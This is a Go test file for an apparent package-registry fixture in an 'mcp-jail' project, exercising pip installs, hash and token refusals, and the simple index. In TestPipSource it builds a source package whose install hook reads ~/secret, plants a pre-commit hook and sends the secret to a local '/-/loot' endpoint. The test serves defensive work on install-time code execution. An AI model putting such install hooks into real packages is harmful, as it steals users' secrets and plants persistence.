package registry

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/mcp-jail/mcp-jail/internal/testkit"
)

// pip is a user of Python, and a directory into which pip installs.
type pip struct {
	user
	python, target string
}

func newPip(t testing.TB, url string) pip {
	t.Helper()
	// A launcher of versions may find none with another home directory: it is asked now.
	out, err := exec.Command("python3", "-c", "import sys, pip; print(sys.executable)").Output()
	if err != nil {
		testkit.Skip(t, "python3", "with pip: %v", err)
	}
	return pip{newUser(t, url), strings.TrimSpace(string(out)), t.TempDir()}
}

func (p pip) install(what ...string) string {
	p.t.Helper()
	return p.does(p.python, append([]string{"-m", "pip", "install", "--no-compile", "--target", p.target}, what...)...)
}

func (p pip) refuses(word string, what ...string) {
	p.t.Helper()
	p.fails(word, p.python, append([]string{"-m", "pip", "install", "--target", p.target}, what...)...)
}

// program returns the command of an installed console script, which must be told where
// its packages are, because the target is no environment of its own.
func (p pip) program(name string) *exec.Cmd {
	c := p.command(filepath.Join(p.target, "bin", name), "--an", "argument")
	c.Env = append(c.Env, "PYTHONPATH="+p.target)
	return c
}

func TestPipInstall(t *testing.T) {
	w := MCPServer{Name: "Fixture.server", Describe: map[string]string{"echo": "Says it again."}}.Wheel()
	w.Requires = []string{"needed-one>=1"}
	site := Start(t, Stock{Wheels: []Wheel{
		w, {Name: "needed_one", Version: "1.5", Files: map[string]string{"needed_one.py": "x = 1\n"}},
		{Name: "needed_one", Version: "2.0", RequiresPython: ">=9"}, {Name: "needed_one", Version: "1.9", Yanked: "it was bad"},
	}})
	p := newPip(t, site.URL)
	if got := p.install("fixture-server"); !strings.Contains(got, "needed-one-1.5") {
		t.Errorf("pip took another version: %s", got)
	}
	got := p.talk(p.program("Fixture.server"), initialize, listTools, callTool("about", `{}`), callTool("write", `{"name":"kept","text":"yes"}`))
	tools := got[1]["tools"].([]any)
	if tools[0].(map[string]any)["description"] != "Says it again." || len(tools) != 5 {
		t.Errorf("tools: %v", tools)
	}
	var about struct {
		Name, Version, File string
		Args                []string
	}
	if err := json.Unmarshal([]byte(said(t, got[2])), &about); err != nil || about.Version != "1.0.0" || !slices.Equal(about.Args, []string{"--an", "argument"}) {
		t.Errorf("about: %+v, %v", about, err)
	}
	if text, err := os.ReadFile(said(t, got[3])); err != nil || string(text) != "yes" || filepath.Dir(said(t, got[3])) != filepath.Dir(about.File) {
		t.Errorf("the file: %q, %v", text, err)
	}
	if asked := paths(site.Requests()); !slices.Contains(asked, "GET /simple/fixture-server/") {
		t.Errorf("pip asked for %q", asked)
	}
}

func TestPipRefusals(t *testing.T) {
	testkit.NeedsLong(t)
	zero := strings.Repeat("0", 64)
	site := Start(t, Stock{Wheels: []Wheel{{Name: "lies", Version: "1", Digest: zero}, {Name: "private", Version: "1", Token: "t0ken"}, {Name: "fine", Version: "1"}}})
	p := newPip(t, site.URL)
	p.refuses("DO NOT MATCH THE HASHES", "lies")
	p.refuses("No matching distribution", "nothing")
	p.refuses("No matching distribution", "private")
	if log := site.Requests(); log[len(log)-1].Status != 401 {
		t.Errorf("without the token: %+v", log[len(log)-1])
	}
	site.Fail(Fault{Path: "*.whl", Status: 403})
	p.refuses("403", "fine")
	site.Fail()
	p.install("--index-url", strings.Replace(site.URL, "://", "://__token__:t0ken@", 1)+"/simple/", "private", "fine")
}

// TestPipSource: a source distribution runs its code when it is built.
func TestPipSource(t *testing.T) {
	testkit.NeedsLong(t)
	site := Start(t, Stock{})
	p := newPip(t, site.URL)
	report := filepath.Join(p.home, "attempts")
	if err := os.WriteFile(filepath.Join(p.home, "secret"), []byte("s3cret"), 0o600); err != nil {
		t.Fatal(err)
	}
	attack := Attack{Read: []string{"~/secret", "~/none"}, Write: []string{"$HOME/hooks/pre-commit"}, Send: []string{site.URL + "/-/loot", "tcp://127.0.0.1:1"}, Report: report}
	site.Upload(MCPServer{Name: "built", OnInstall: &attack}.Wheel())
	p.refuses("No matching distribution", "--only-binary=:all:", "built")
	p.install("built")
	text, err := os.ReadFile(report)
	if err != nil {
		t.Fatal(err)
	}
	want := []Attempt{
		{Do: "read", What: "~/secret", Bytes: 6}, {Do: "read", What: "~/none", Failed: "ENOENT"}, {Do: "write", What: "$HOME/hooks/pre-commit"},
		{Do: "send", What: site.URL + "/-/loot"}, {Do: "send", What: "tcp://127.0.0.1:1", Failed: "ECONNREFUSED"},
	}
	if got := Attempts(string(text)); !slices.Equal(got, want) {
		t.Errorf("attempts: %+v", got)
	}
	if !slices.ContainsFunc(site.Requests(), func(q Request) bool { return q.Path == "/-/loot" && strings.Contains(q.Body, "s3cret") }) {
		t.Error("the loot did not arrive")
	}
	if got := p.talk(p.program("built"), initialize); got[0]["serverInfo"].(map[string]any)["name"] != "built" {
		t.Errorf("the server that was built says %v", got)
	}
}

func TestSimpleIndex(t *testing.T) {
	site := Start(t, Stock{Wheels: []Wheel{{Name: "A.b_c", Version: "1.0", RequiresPython: ">=3.9", Yanked: "bad"}, {Name: "source", Version: "1", Build: "pass"}}})
	r, body := get(t, site.URL+"/simple/a-b-c/")
	for _, want := range []string{"a_b_c-1.0-py3-none-any.whl#sha256=", `data-requires-python="&gt;=3.9"`, `data-yanked="bad"`, "data-core-metadata"} {
		if !strings.Contains(body, want) {
			t.Errorf("no %s in %s", want, body)
		}
	}
	if r.Header.Get("Content-Type") != "text/html; charset=utf-8" {
		t.Errorf("headers: %v", r.Header)
	}
	r, body = get(t, site.URL+"/simple/a-b-c/", "Accept", simpleJSON)
	var doc struct {
		Name  string
		Files []struct {
			Filename, URL string
			Hashes        map[string]string
			Size          int64
			Requires      string `json:"requires-python"`
		}
	}
	if err := json.Unmarshal([]byte(body), &doc); err != nil || r.Header.Get("Content-Type") != simpleJSON || len(doc.Files) != 1 || doc.Files[0].Requires != ">=3.9" {
		t.Fatalf("%v %v %s", err, r.Header, body)
	}
	f := doc.Files[0]
	if r, body := get(t, f.URL); int64(len(body)) != f.Size || r.StatusCode != 200 {
		t.Errorf("the wheel: %s, %d bytes", r.Status, len(body))
	}
	if _, body := get(t, f.URL+".metadata"); !strings.Contains(body, "Name: A.b_c\nVersion: 1.0\nRequires-Python: >=3.9\n") {
		t.Errorf("metadata: %q", body)
	}
	for path, want := range map[string]string{"/simple/": "source/", "/files/source-1.tar.gz.metadata": "Not found"} {
		if _, body := get(t, site.URL+path); !strings.Contains(body, want) {
			t.Errorf("%s: %s", path, body)
		}
	}
}
